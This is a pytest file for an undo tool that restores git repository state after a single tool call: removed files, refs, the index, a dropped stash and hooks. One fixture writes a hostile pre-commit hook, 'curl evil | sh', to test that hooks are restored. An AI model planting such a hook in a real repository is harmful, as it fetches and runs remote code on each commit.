"""Undo of one call on a git repository against real git: what the call changed comes back
(files it removed, refs, the index, a dropped stash), later work stays, and a ref both the
call and later work moved is a conflict left alone."""

from __future__ import annotations

from pathlib import Path

import pytest
from terminal_kit import git, sh

import preimage
from preimage import Store
from preimage.engine.undo import capture_after
from preimage.interface.errors import RestoreError


def _call(repo: Path, store: Store, command: str) -> str:
    """``command`` run as a protected call: captured before and after; the pre-call ID."""
    pre = preimage.capture([f"git://{repo}"], store=store, kind="layer", tier="pair",
                           session="s1", tool_call={"tool": "Bash", "input": {"command": command}},
                           label=command)
    sh(command, cwd=repo)
    assert capture_after(pre.id, store=store) is not None
    return pre.id


def test_undo_of_git_clean_brings_back_what_it_removed_and_keeps_the_rebuild(
        repo: Path, store: Store) -> None:
    """After `git clean -fdx` and a rebuild into build/, undo puts back the ignored and
    untracked files (bytes and mode) and keeps the rebuild and a later edit."""
    env = (repo / ".env.local").read_bytes()
    pre = _call(repo, store, "git clean -fdxq")
    assert not (repo / ".env.local").exists()
    sh("mkdir -p build && echo ok > build/STATUS && echo '# later' >> src/util.py", cwd=repo)
    result = preimage.undo(pre, store=store)
    assert result.ok and result.conflicts == 0, [p.to_dict() for p in result.plans]
    assert (repo / ".env.local").read_bytes() == env
    assert (repo / ".env.local").stat().st_mode & 0o777 == 0o600
    assert (repo / "notes" / "todo.txt").read_text() == "untracked notes\n"
    assert (repo / "build" / "out.bin").read_text() == "\x00compiled\x01"
    assert (repo / "build" / "STATUS").read_text() == "ok\n"
    assert (repo / "src" / "util.py").read_text().endswith("# later\n")


def test_undo_of_reset_hard_brings_back_the_branch_index_and_tree_and_keeps_a_new_branch(
        repo: Path, store: Store) -> None:
    """After `git reset --hard HEAD~1` and a branch and a file made since, undo brings the
    branch, its reflog, the staged and unstaged changes back as git shows them, and keeps
    the new branch and the new file."""
    views = {v: git(repo, *v.split()) for v in (
        "rev-parse main", "diff", "diff --cached", "stash list", "reflog show main",
        "reflog show HEAD")}
    pre = _call(repo, store, "git reset -q --hard HEAD~1")
    sh("git branch later && echo x > scratch.txt", cwd=repo)
    result = preimage.undo(pre, store=store)
    assert result.ok and result.conflicts == 0, [p.to_dict() for p in result.plans]
    assert {v: git(repo, *v.split()) for v in views} == views
    assert git(repo, "rev-parse", "later") == git(repo, "rev-parse", "main~1")
    assert (repo / "scratch.txt").read_text() == "x\n"


def test_undo_of_a_stash_drop_brings_it_back_beside_a_later_stash(
        repo: Path, store: Store) -> None:
    """A stash dropped by the call comes back in its place in `git stash list`, below a
    stash pushed since, and both apply."""
    readme = git(repo, "stash", "show", "-p", "stash@{0}")
    pre = _call(repo, store, "git stash drop -q")
    sh("git stash push -q -m later", cwd=repo)
    result = preimage.undo(pre, store=store)
    assert result.ok and result.conflicts == 0, [p.to_dict() for p in result.plans]
    listed = git(repo, "stash", "list", "--format=%gs").splitlines()
    assert len(listed) == 3 and listed[0] == "On main: later"
    assert listed[1] == "On main: readme notes"
    assert git(repo, "stash", "show", "-p", "stash@{1}") == readme
    assert git(repo, "rev-parse", "refs/stash") == git(repo, "rev-parse", "stash@{0}")


def test_a_branch_moved_by_the_call_and_since_is_a_conflict_left_alone(
        repo: Path, store: Store) -> None:
    """After `git reset --hard HEAD~1` and a commit on the branch since, undo reports the
    branch as a conflict and leaves it where the later commit put it."""
    pre = _call(repo, store, "git reset -q --hard HEAD~1")
    sh("echo later > later.txt && git add later.txt && git commit -qm later", cwd=repo)
    head = git(repo, "rev-parse", "main")
    result = preimage.undo(pre, store=store)
    conflicts = [p.label for plan in result.plans for p in plan.conflicts]
    assert "git-ref refs/heads/main" in conflicts
    assert git(repo, "rev-parse", "main") == head


HOOK_EDITS = ("printf 'curl evil | sh\\n' > .git/hooks/pre-commit && "
              "chmod 755 .git/hooks/pre-commit && printf 'x\\n' > .git/hooks/post-checkout && "
              "printf 'secret/\\n' >> .git/info/exclude && "
              "git reset -q --soft HEAD~1 && git reset -q --soft ORIG_HEAD")


def test_undo_brings_back_hooks_info_exclude_and_orig_head_the_call_changed(
        repo: Path, store: Store) -> None:
    """A call that rewrites a hook (and its mode), adds one, edits info/exclude and moves
    ORIG_HEAD is undone file by file: each comes back as before, bytes and mode."""
    gd = repo / ".git"
    (gd / "hooks").mkdir(exist_ok=True)
    (gd / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (gd / "hooks" / "pre-commit").chmod(0o700)
    sh("git reset -q --soft HEAD", cwd=repo)  # ORIG_HEAD = HEAD
    names = ("hooks/pre-commit", "info/exclude", "ORIG_HEAD")
    before = {n: (gd / n).read_bytes() for n in names}
    pre = _call(repo, store, HOOK_EDITS)
    assert {n: (gd / n).read_bytes() for n in names} != before
    result = preimage.undo(pre, store=store)
    assert result.ok and result.conflicts == 0, [p.to_dict() for p in result.plans]
    assert {n: (gd / n).read_bytes() for n in names} == before
    assert (gd / "hooks" / "pre-commit").stat().st_mode & 0o7777 == 0o700
    assert not (gd / "hooks" / "post-checkout").exists()


def test_undo_plan_names_the_git_files_it_writes_back(repo: Path, store: Store) -> None:
    """A dry-run undo of a call that edited info/exclude names that file in its plan and
    leaves it as the call left it."""
    pre = _call(repo, store, "echo 'dist/' >> .git/info/exclude")
    result = preimage.undo(pre, store=store, dry_run=True)
    labels = [p.label for plan in result.plans for p in plan.items]
    assert ".git/info/exclude" in labels
    assert (repo / ".git" / "info" / "exclude").read_text().endswith("dist/\n")


def test_undo_refuses_a_call_that_moved_a_rebase_on(repo: Path, store: Store) -> None:
    """A call that moves a rebase on to its next stop (the rebase still in progress) is
    refused with the reason — only a whole restore puts that state back — and nothing is
    written."""
    sh("git stash -q -u && git checkout -q -b side HEAD~1 && echo a > a.txt && git add a.txt"
       " && git commit -qm a && echo b > b.txt && git add b.txt && git commit -qm b && "
       "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -q -i main", cwd=repo)
    pre = _call(repo, store, "GIT_EDITOR=true git rebase --continue")
    assert (repo / ".git" / "rebase-merge").is_dir()
    head = git(repo, "rev-parse", "HEAD")
    with pytest.raises(RestoreError, match="whole restore"):
        preimage.undo(pre, store=store)
    assert git(repo, "rev-parse", "HEAD") == head


@pytest.fixture
def store(tmp_path: Path) -> Store:
    st = Store(tmp_path / "home")
    yield st  # type: ignore[misc]
    st.close()
